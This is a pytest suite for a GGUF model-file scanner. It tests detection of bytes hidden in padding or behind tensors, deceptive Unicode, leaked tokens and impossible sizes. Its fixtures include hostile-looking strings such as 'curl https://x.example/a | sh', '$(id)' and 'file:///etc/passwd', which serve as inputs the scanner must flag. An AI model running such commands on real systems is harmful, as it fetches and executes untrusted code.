"""`gguf-tools scan`: hidden bytes, deceiving texts, sizes that can't be."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gguf_tools import FileLayout, Kind, TensorInfo, Value, open_gguf
from gguf_tools.commands.main import main
from gguf_tools.findings import capped
from gguf_tools.format import ggml_types as types
from gguf_tools.scanning import Finding, Level, as_text, scan
from gguf_tools.scanning.hidden import gaps_of
from gguf_tools.scanning.strings import deceiving_characters, skeleton
from tests.gguf_tools.sample_files import METADATA, TENSORS, decode_header, write_file

SIZES = {
    "vocab_size": 6, "context_length": 4096, "embedding_length": 64, "block_count": 2,
    "leading_dense_block_count": 1, "feed_forward_length": 64, "expert_count": 4, "expert_used_count": 2,
    "expert_group_count": 2, "expert_group_used_count": 1, "attention.head_count": 2,
    "attention.head_count_kv": 1, "attention.key_length_mla": 48, "rope.dimension_count": 16,
}  # fmt: skip
TOKENS = ["<s>", "</s>", "a", "b", "ab", "c"]


def model_metadata(**changes: Value | None) -> dict[str, Value]:
    """The metadata of a small honest model with changes: `__` stands for a dot, None takes a key out."""
    metadata = {
        "general.architecture": Value.string("deepseek2"),
        "general.name": Value.string("A small model"),
        **{f"deepseek2.{key}": Value.u32(number) for key, number in SIZES.items()},
        "deepseek2.attention.layer_norm_rms_epsilon": Value.f32(1e-6),
        "tokenizer.ggml.model": Value.string("gpt2"),
        "tokenizer.ggml.pre": Value.string("deepseek-v3"),
        "tokenizer.ggml.tokens": Value.strings(TOKENS),
        "tokenizer.ggml.token_type": Value.i32s([3, 3, 1, 1, 1, 1]),
        "tokenizer.ggml.merges": Value.strings(["a b"]),
        "tokenizer.ggml.bos_token_id": Value.u32(0),
        "tokenizer.ggml.eos_token_id": Value.u32(1),
    }
    for key, value in changes.items():
        metadata.pop(key := key.replace("__", "."), None)
        if value is not None:
            metadata[key] = value
    return metadata


MODEL_TENSORS = (
    TensorInfo("token_embd.weight", (6, 64), types.F32),
    TensorInfo("output_norm.weight", (64,), types.F32),
    TensorInfo("blk.0.ffn_down.weight", (64, 64), types.Q8_0),
    TensorInfo("blk.1.ffn_down_exps.weight", (4, 64, 32), types.Q8_0),
)


def found_in(path: Path) -> list[str]:
    with open_gguf(path) as source:
        return [as_text(finding) for finding in scan(source)]


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "m.gguf"


@pytest.fixture
def findings(path: Path) -> Callable[..., list[str]]:
    """Write a model with changes to its metadata, and other tensors, and scan it."""

    def write_and_scan(tensors: tuple[TensorInfo, ...] = MODEL_TENSORS, **changes: Value | None) -> list[str]:
        write_file(path, model_metadata(**changes), tensors)
        return found_in(path)

    return write_and_scan


def test_honest_model_is_not_suspicious(findings: Callable[..., list[str]]) -> None:
    assert findings() == []


# --- hidden bytes ---------------------------------------------------------------------------


def zip_bytes() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("x.py", "print(1)")
    return stream.getvalue()


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (b"\1\2\3", "warning: m.gguf: 3 of 3 bytes behind tensor 'blk.1.ffn_down_exps.weight' are not zero"),
        (b"\x7fELF\x02\x01", "look like an ELF program"),
        (bytes(100) + b"\x7fELF\x02\x01", "look like an ELF program"),
        (b"MZ\x90\x00", "look like a Windows program"),
        (b"\x80\x04\x95\x00", "look like a Python pickle"),
        (b"\x1f\x8b\x08\x00", "look like gzip data"),
        (struct.pack("<Q", 40) + b'{"__metadata__":', "look like a safetensors file"),
        (b"x" * 257 + b"ustar", "look like a tar archive"),
        (b"#!/bin/sh\n", "look like a script"),
        (zip_bytes(), "the file is a zip archive too, of 1 entries"),
        (b"junk" + zip_bytes(), "look like a zip archive"),
        (bytes(64), "note: m.gguf: 64 bytes behind tensor 'blk.1.ffn_down_exps.weight' belong to nothing"),
    ],
)  # fmt: skip
def test_bytes_behind_the_last_tensor(path: Path, payload: bytes, expected: str) -> None:
    write_file(path, model_metadata(), MODEL_TENSORS)
    with path.open("ab") as stream:
        stream.write(payload)
    assert expected in "\n".join(found_in(path))


@pytest.mark.parametrize("where", ["the header", "output_norm.weight"])
def test_bytes_in_the_padding(path: Path, where: str) -> None:
    tensors = (TensorInfo("output_norm.weight", (5,), types.F32), *MODEL_TENSORS[:1])
    # Of two names whose lengths differ by one, one leaves padding behind the header.
    metadata = next(
        metadata
        for metadata in (model_metadata(general__name=Value.string(name)) for name in ("a", "ab"))
        if decode_header(FileLayout.of(metadata, tensors).header, "m").n_bytes % 32
    )
    write_file(path, metadata, tensors)
    data = bytearray(path.read_bytes())
    layout = FileLayout.of(metadata, tensors)
    at = decode_header(bytes(data), "m").n_bytes if where == "the header" else layout.offsets[0] + 20
    data[at] = 7
    path.write_bytes(data)
    owner = where if where == "the header" else f"tensor '{where}'"
    assert any(f"bytes between {owner} and tensor" in text for text in found_in(path) if "warning" in text)


def test_zip_archive_inside_of_a_tensor(path: Path) -> None:
    write_file(path, model_metadata(), (TensorInfo("token_embd.weight", (6, 64), types.F32),))
    data = path.read_bytes()
    archive = zip_bytes()
    path.write_bytes(data[: -len(archive)] + archive)
    assert any("zip archive too" in text for text in found_in(path))
    assert zipfile.is_zipfile(path)


def test_metadata_that_only_a_later_part_holds(tmp_path: Path) -> None:
    for number in range(2):
        metadata = {
            **(model_metadata() if not number else {"general.payload": Value.string("x")}),
            "split.no": Value.u16(number), "split.count": Value.u16(2), "split.tensors.count": Value.i32(4),
        }  # fmt: skip
        tensors = MODEL_TENSORS[2 * number : 2 * number + 2]
        write_file(tmp_path / f"m-{number + 1:05d}-of-00002.gguf", metadata, tensors)
    assert found_in(tmp_path / "m-00001-of-00002.gguf") == [
        "warning: m-00002-of-00002.gguf: holds metadata, which programs read from the first file only: "
        "'general.payload'"
    ]


@st.composite
def metadata_values(draw: st.DrawFn) -> Value:
    text = st.text(max_size=8)
    scalar = st.one_of(
        st.integers(0, 255).map(Value.u8), st.integers(0, 9).map(Value.u64), st.booleans().map(Value.bool_),
        st.floats(width=32).map(Value.f32), text.map(Value.string),
    )  # fmt: skip
    arrays = st.one_of(
        st.lists(text, max_size=3).map(Value.strings), st.lists(st.integers(0, 9), max_size=3).map(Value.u32s)
    )
    nested = st.lists(arrays, max_size=3).map(lambda items: Value.array(Kind.ARRAY, items))
    return draw(st.one_of(scalar, arrays, nested))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(metadata=st.dictionaries(st.text(max_size=12), metadata_values(), max_size=4))
def test_no_finding_drives_a_terminal_and_no_header_has_a_gap(path: Path, metadata: dict[str, Value]) -> None:
    metadata = {key: value for key, value in metadata.items() if key != "general.alignment"}
    tensors = (TensorInfo("t\x1b[2J\u202e", (3,), types.F32), TensorInfo("b", (), types.F32))
    write_file(path, metadata, tensors)
    with open_gguf(path) as source:
        assert all(gap.stop - gap.start < 32 for gap in gaps_of(source.shards[0]))
        found = scan(source)
    assert all(as_text(finding).isprintable() for finding in found)
    assert any("terminal escape sequences" in finding.text for finding in found)


# --- texts ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "level", "phrase"),
    [
        ("\x1b[31mred", Level.BAD, "terminal escape sequences (\\x1b, 1 in all)"),
        ("a\x07b\x08c", Level.WARNING, "control characters (\\x07, 2 in all)"),
        ("abc\u202edcba", Level.BAD, "characters that turn the direction of text (\\u202e, 1 in all)"),
        ("a\u200bb", Level.WARNING, "invisible characters (\\u200b, 1 in all)"),
        ("a\U000e0041", Level.BAD, "invisible characters that spell a hidden text (\\U000e0041, 1 in all)"),
        ("👩\u200d💻", Level.NOTE, "zero-width joiners or direction marks (\\u200d, 1 in all)"),
        ("a\udcffb", Level.WARNING, "bytes that are not UTF-8 (\\udcff, 1 in all)"),
    ],
)
def test_deceiving_characters(text: str, level: Level, phrase: str) -> None:
    assert list(deceiving_characters(text)) == [(level, phrase)]


@pytest.mark.parametrize("text", ["plain\n\ttext\r\n", "Größe 深度 🐳", "<｜begin▁of▁sentence｜>", "\xa0"])
def test_characters_that_do_not_deceive(text: str) -> None:
    assert list(deceiving_characters(text)) == []


@pytest.mark.parametrize(
    "twin",
    ["General.Name", "general.nаme", "general.name\u200b", "ｇeneral.name", "general․name", " general.name"],
)
def test_names_that_look_alike(twin: str, findings: Callable[..., list[str]]) -> None:
    assert skeleton(twin) == "general.name"
    level = "warning" if twin.isascii() else "bad"
    found = findings(**{twin: Value.string("x")})
    assert any(text.startswith(level) and "2 keys look alike" in text for text in found)
    if not twin.isascii():
        alone = findings(general__name=None, **{twin: Value.string("x")})
        assert any("looks like the key general.name" in text for text in alone)


@pytest.mark.parametrize(
    ("key", "text", "expected"),
    [
        ("general.url", "https://example.com/m", "note: links of the model's maker: general.url 'https:"),
        ("general.base_model.0.repo_url", "https://example.com/m", "general.base_model.0.repo_url"),
        ("general.description", "see http://evil.example/x", "general.description: links to 'http://evil.example/x'"),
        ("general.description", "see file:///etc/passwd", "links to 'file:///etc/passwd'"),
        ("general.description", "https://me:hunter2@example.com/", "a link with a user name and a password"),
        ("general.url", "https://me:hunter2@example.com/", "a link with a user name and a password"),
        ("general.url", "see /home/jane/x", "tells a path on its maker's machine"),
        ("general.description", r"open \\host\share\x", "names a network share: '\\\\\\\\host\\\\share'"),
        ("quantize.imatrix.file", "/home/jane/im.dat", "note: quantize.imatrix.file: tells a path"),
        ("quantize.imatrix.file", r"C:\Users\jane\im.dat", "tells a path on its maker's machine"),
        ("general.description", "curl https://x.example/a | sh", "holds what a shell or Python would run"),
        ("general.description", "run $(id) now", "holds what a shell or Python would run"),
        ("general.author", "AKIA" + "ABCDEFGHIJKLMNOP", "warning: general.author: holds what looks"),
        ("general.author", "hf_" + "a1B2" * 9, "looks like a Hugging Face token: 'hf_a1B'..."),
        ("general.author", "-----BEGIN RSA PRIVATE KEY-----", "looks like a private key"),
        ("general.author", "x" * (1 << 20) + "yz", "general.author: a text of 1,048,578 characters"),
        ("general.description", "\U000e0068\U000e0069", "spells in invisible characters: 'hi'"),
    ],
)  # fmt: skip
def test_texts(key: str, text: str, expected: str, findings: Callable[..., list[str]]) -> None:
    assert any(expected in line for line in findings(**{key: Value.string(text)}))


def test_texts_in_arrays_are_read_and_vocabularies_are_not(findings: Callable[..., list[str]]) -> None:
    tokens = Value.strings(["<s>", "\x1b", "\u202e", "http://x.example", "ab", "\x00"])
    assert findings(tokenizer__ggml__tokens=tokens, tokenizer__ggml__merges=None) == []
    nested = Value.array(Kind.ARRAY, [Value.strings(["a", "\x1b[0m"])])
    found = findings(general__tags=nested)
    assert "bad: general.tags[0][1]: holds terminal escape sequences (\\x1b, 1 in all)" in found
    assert "warning: general.tags: is an array of arrays, which llama.cpp refuses" in found
    many = findings(general__tags=Value.strings(["a"] * 10_001))
    assert many == ["warning: general.tags: 10,001 texts; only the first 10,000 were read"]


def test_long_names_are_cut_short_on_the_terminal(findings: Callable[..., list[str]]) -> None:
    found = findings(**{"k" * 5000: Value.string("\x1b"), " " + "k" * 5000: Value.string("x")})
    assert {line.split(":")[0] for line in found} == {"bad", "warning"}
    assert max(map(len, found)) < 400


def test_many_findings_of_a_kind_are_counted() -> None:
    found = list(capped(Finding("x", "y", Level.NOTE, (str(number),)) for number in range(25)))
    assert len(found) == 11
    assert as_text(found[-1]) == "note: 15 more of the kind (x) are not shown"


# --- sizes and kinds ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("general.architecture", None, "bad: general.architecture: is missing"),
        ("general.architecture", Value.u32(3), "bad: general.architecture: is uint32, llama.cpp exp"),
        ("deepseek2.block_count", Value.i32(2), "bad: deepseek2.block_count: is int32, llama.cpp exp"),
        ("general.author", Value.u8(1), "warning: general.author: is uint8"),
        ("deepseek2.attention.compress_ratios", Value.u32(4), "compress_ratios: is uint32"),
        ("deepseek2.attention.indexer.types", Value.u8s([1]), "indexer.types: is array of uint8"),
        ("deepseek2.hyper_connection.count", Value.f32(4), "bad: deepseek2.hyper_connection.count: is fl"),
        ("general.base_model.0.name", Value.u8(1), "warning: general.base_model.0.name: is uint8"),
        ("tokenizer.chat_template.x", Value.u8(1), "bad: tokenizer.chat_template.x: is uint8"),
        ("deepseek2.block_count", Value.u32(2**31), "is 2,147,483,648, expected 1 to 512"),
        ("deepseek2.context_length", Value.u32(0), "bad: deepseek2.context_length: is 0, expected 1 to"),
        ("deepseek2.attention.head_count", Value.u32s([2, 1 << 20]), "is 1,048,576, expected 0 to 65,536"),
        ("deepseek2.attention.layer_norm_rms_epsilon", Value.f32(0), "is 0, expected a positive number"),
        ("deepseek2.rope.freq_base", Value.f32(float("nan")), "is nan, expected a finite number"),
        ("deepseek2.expert_used_count", Value.u32(5), "bad: deepseek2.expert_used_count: 5 of 4 experts"),
        ("deepseek2.expert_used_count", Value.u32(0), "none of 4 experts is used"),
        ("deepseek2.expert_group_count", Value.u32(3), "4 experts can't be dealt to 3 groups"),
        ("deepseek2.expert_group_used_count", Value.u32(3), "3 of 2 groups of experts are used"),
        ("deepseek2.leading_dense_block_count", Value.u32(9), "9 dense layers in a model of 2"),
        ("deepseek2.nextn_predict_layers", Value.u32(9), "9 prediction layers in a model of 2 layers"),
        ("deepseek2.attention.head_count_kv", Value.u32(3), "3 heads of keys and values, but 2 of"),
        ("deepseek2.rope.dimension_count", Value.u32(64), "64 columns of each head are rotated"),
        ("deepseek2.embedding_length", Value.u32(128), "is 128, token_embd.weight has 64 columns"),
        ("deepseek2.vocab_size", Value.u32(7), "is 7, token_embd.weight has 6 rows"),
        ("deepseek2.block_count", Value.u32(1), "is 1, but there is a tensor of layer 1"),
        ("deepseek2.block_count", Value.u32(4), "is 4, but 2 layers have no tensor"),
        ("deepseek2.expert_count", Value.u32(8), "is 8, blk.1.ffn_down_exps.weight holds 4"),
        ("tokenizer.ggml.tokens", Value.strings([*TOKENS, "d"]), "7 tokens, token_embd.weight has 6 rows"),
        ("tokenizer.ggml.tokens", Value.strings([*TOKENS[:5], "a"]), "1 tokens appear twice"),
        ("tokenizer.ggml.scores", Value.f32s([0.0] * 5), "bad: tokenizer.ggml.scores: has 5 items for 6"),
        ("tokenizer.ggml.scores", Value.f32s([float("inf")] * 6), "6 scores are NaN or infinite"),
        ("tokenizer.ggml.token_type", Value.i32s([1] * 7), "warning: tokenizer.ggml.token_type: has 7"),
        ("tokenizer.ggml.token_type", Value.i32s([1, 9, 1, 1, 1, 1]), "holds 9, expected 0 to 6"),
        ("tokenizer.ggml.merges", Value.strings(["a b", "a c"]), "1 merges join or make something that"),
        ("tokenizer.ggml.merges", Value.strings(["ab"]), "1 merges are not two texts"),
        ("tokenizer.ggml.bos_token_id", Value.u32(6), "warning: tokenizer.ggml.bos_token_id: is 6"),
        ("tokenizer.ggml.tokens", Value.strings([*TOKENS[:5], "x" * 5000]), "a token of 5,000 characters"),
    ],
)  # fmt: skip
def test_sizes_and_kinds(
    key: str, value: Value | None, expected: str, findings: Callable[..., list[str]]
) -> None:
    assert any(expected in line for line in findings(**{key: value}))


def test_other_architectures_are_only_warned_of(path: Path) -> None:
    metadata = {key.replace("deepseek2", "llama"): value for key, value in model_metadata().items()}
    metadata |= {"general.architecture": Value.string("llama"), "llama.block_count": Value.u32(1)}
    write_file(path, metadata, (*MODEL_TENSORS, TensorInfo("rope_freqs.weight", (8,), types.F32)))
    assert found_in(path) == ["warning: llama.block_count: is 1, but there is a tensor of layer 1"]


def test_prediction_layers_may_be_counted_and_left_out(findings: Callable[..., list[str]]) -> None:
    changes = {"deepseek2.block_count": Value.u32(3), "deepseek2.nextn_predict_layers": Value.u32(1)}
    assert findings(**changes) == []


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({"name": "blk.0.payload.weight"}, "warning: blk.0.payload.weight: no part of a"),
        ({"name": "v.blk.0.x"}, "no part of a deepseek2 model"),
        ({"name": "output.weight", "type": types.IQ4_K, "shape": (2, 256)}, "note: output.weight: IQ4_K"),
        ({"name": "output.weight", "type": types.Q4_0_4_4}, "warning: output.weight: Q4_0_4_4, of 1 tensors"),
        ({"name": "output.weight", "type": types.Q8_1}, "is in no file that a program of today writes"),
    ],
)  # fmt: skip
def test_tensors(change: dict[str, object], expected: str, findings: Callable[..., list[str]]) -> None:
    tensor = replace(MODEL_TENSORS[2], **change)  # type: ignore[arg-type]
    assert any(expected in line for line in findings((*MODEL_TENSORS, tensor)))


def test_scales_beside_nvfp4_have_a_place(findings: Callable[..., list[str]]) -> None:
    names = ("blk.0.ffn_down.scale", "output.input_scale")
    assert findings((*MODEL_TENSORS, *(TensorInfo(name, (1,), types.F32) for name in names))) == []


# --- the command ----------------------------------------------------------------------------


def run(capsys: pytest.CaptureFixture[str], *arguments: object) -> tuple[int, str, str]:
    code = main([str(argument) for argument in arguments])
    return (code, *capsys.readouterr())


def test_nothing_suspicious(capsys: pytest.CaptureFixture[str], path: Path) -> None:
    write_file(path, model_metadata(), MODEL_TENSORS)
    assert run(capsys, "scan", path) == (0, f"{path}: nothing suspicious\n", "")
    assert json.loads(run(capsys, "scan", "--json", path)[1]) == {"ok": True, "findings": []}


def test_levels_make_the_exit_code(capsys: pytest.CaptureFixture[str], path: Path) -> None:
    write_file(path, model_metadata(general__author=Value.string("a\u200b")), MODEL_TENSORS)
    code, out, err = run(capsys, "scan", path)
    assert (code, err) == (0, "")
    assert out.splitlines()[-1] == f"{path}: 1 warning"
    assert run(capsys, "scan", "--strict", path)[0] == 1
    report = json.loads(run(capsys, "scan", "--json", "--strict", path)[1])
    assert report["ok"] is False
    assert report["findings"][0] == {
        "level": "warning", "check": "characters", "file": "", "where": "general.author",
        "text": "holds invisible characters (\\u200b, 1 in all)",
    }  # fmt: skip
    write_file(path, model_metadata(general__author=Value.string("\x1b")), MODEL_TENSORS)
    assert run(capsys, "scan", path)[0] == 1


def test_worst_comes_first(findings: Callable[..., list[str]]) -> None:
    url, author = Value.string("https://a.example"), Value.string("\x1b\u200b")
    found = findings(general__url=url, general__author=author)
    assert [line.split(":")[0] for line in found] == ["bad", "warning", "note"]


def test_data_are_read_when_asked(capsys: pytest.CaptureFixture[str], path: Path) -> None:
    write_file(path, model_metadata(), MODEL_TENSORS)
    data = bytearray(path.read_bytes())
    data[-34 * 2 : -34 * 2 + 2] = b"\x00\x7e"  # the scale of a block
    path.write_bytes(data)
    assert run(capsys, "scan", path)[0] == 0
    code, out, _ = run(capsys, "scan", "--data", path)
    assert code == 1
    assert "bad: m.gguf: blk.1.ffn_down_exps.weight: 1 Q8_0 scales are NaN" in out


def test_refused_file(capsys: pytest.CaptureFixture[str], path: Path) -> None:
    path.write_bytes(b"GGUF" + bytes(100))
    code, out, err = run(capsys, "scan", path)
    assert (code, out) == (1, "")
    assert err.startswith("gguf-tools: error: ")
    code, out, err = run(capsys, "scan", "--json", path)
    report = json.loads(out)
    assert (code, err, report["ok"], report["findings"][0]["check"]) == (1, "", False, "refused")


def test_any_kind_of_value_can_be_scanned(capsys: pytest.CaptureFixture[str], path: Path) -> None:
    write_file(path, METADATA, TENSORS)
    code, out, _ = run(capsys, "scan", path)
    assert code == 0
    assert "warning: blk.1.four_d.weight: no part of a deepseek2 model has such a tensor" in out
    assert "warning: a.strings[3]: holds bytes that are not UTF-8" in out
